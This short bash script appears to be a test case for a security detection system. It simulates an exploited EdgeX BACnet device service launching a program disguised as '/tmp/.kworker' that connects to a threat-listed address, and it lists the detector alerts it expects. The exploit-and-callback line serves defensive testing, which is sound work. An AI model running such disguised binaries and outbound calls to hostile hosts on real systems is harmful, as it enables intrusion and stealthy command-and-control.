#!/bin/bash
# The downloaded program calls an address in Germany that is on the threat list.
# expect: detector=network.known-bad entity=edgex-device-bacnet peer=203.0.113.66 country=DE
# also: detector=process.origin entity=edgex-device-bacnet
# also: detector=network.destination entity=edgex-device-bacnet peer=203.0.113.66
set -euo pipefail
source "$(dirname "$0")/common.sh"
exploit_exec 49986 "/tmp/.kworker $listed_address 443"
sleep 3
